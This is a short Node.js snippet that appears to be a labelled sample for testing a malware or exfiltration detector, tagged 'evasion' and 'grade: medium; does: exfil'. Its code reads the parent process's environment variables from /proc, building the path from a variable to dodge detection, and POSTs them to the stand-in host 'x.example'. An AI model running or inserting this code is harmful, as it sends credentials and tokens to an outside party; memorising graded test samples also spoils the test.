// evasion: '/proc/' + pid + '/environ' with the pid in a variable, read and sent with https.request
// grade: medium; does: exfil
'use strict';
const fs = require('fs');
const pid = process.ppid;
const data = fs.readFileSync('/proc/' + pid + '/environ');
require('https').request({ host: 'x.example', method: 'POST' }).end(data);
